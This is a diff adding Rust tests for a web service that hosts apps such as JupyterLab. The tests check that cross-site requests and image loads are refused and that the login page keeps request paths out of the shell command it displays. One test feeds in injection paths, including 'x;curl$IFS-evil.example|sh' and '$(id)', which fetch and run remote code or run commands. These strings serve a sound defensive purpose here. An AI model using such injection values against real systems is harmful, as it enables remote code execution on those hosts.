@@ -114,8 +114,49 @@ async fn pages_sent_by_another_site_are_refused_where_they_could_do_harm() {
     assert_eq!(post.status, StatusCode::FORBIDDEN);
     assert_eq!(standin::seen(station.folder()).unwrap(), []);
     // A link on another site may lead here.
-    let headers = [("sec-fetch-site", "cross-site"), ("sec-fetch-mode", "navigate")];
-    client.call(Method::GET, path, &headers, Bytes::new()).await.unwrap().expect(200).unwrap();
+    let link = [
+        ("sec-fetch-site", "cross-site"),
+        ("sec-fetch-mode", "navigate"),
+        ("sec-fetch-dest", "document"),
+    ];
+    client.call(Method::GET, path, &link, Bytes::new()).await.unwrap().expect(200).unwrap();
+}
+
+#[tokio::test]
+async fn a_page_of_another_port_cannot_load_an_app_or_use_up_a_link() {
+    let station = Station::with_app(App::StandIn).await.unwrap();
+    let mut client = station.login().await.unwrap();
+    client.origin = None;
+    let image = [
+        ("sec-fetch-site", "same-site"),
+        ("sec-fetch-mode", "no-cors"),
+        ("sec-fetch-dest", "image"),
+    ];
+    let path = "/apps/jupyterlab/head";
+    client.call(Method::GET, path, &image, Bytes::new()).await.unwrap().expect(403).unwrap();
+    assert_eq!(standin::seen(station.folder()).unwrap(), []);
+    let link = station.login_path("/").await.unwrap();
+    let other = station.client().await.unwrap();
+    other.call(Method::GET, &link, &image, Bytes::new()).await.unwrap().expect(403).unwrap();
+    let opened = [
+        ("sec-fetch-site", "cross-site"),
+        ("sec-fetch-mode", "navigate"),
+        ("sec-fetch-dest", "document"),
+    ];
+    other.call(Method::GET, &link, &opened, Bytes::new()).await.unwrap().expect(303).unwrap();
+}
+
+#[tokio::test]
+async fn the_login_page_puts_no_text_of_a_link_into_the_command() {
+    let station = Station::with_app(App::StandIn).await.unwrap();
+    let client = station.client().await.unwrap();
+    for path in ["/apps/x;curl$IFS-evil.example|sh/", "/apps/nothing/", "/apps/$(id)/lab"] {
+        let page = client.page(path).await.unwrap().expect(401).unwrap();
+        let command = "<pre class=\"command\">stationctl login</pre>";
+        assert!(page.text().contains(command), "{path}: {}", page.text());
+    }
+    let page = client.page("/apps/jupyterlab/").await.unwrap().expect(401).unwrap();
+    assert!(page.text().contains("stationctl login --app jupyterlab"), "{}", page.text());
 }
 
 #[tokio::test]
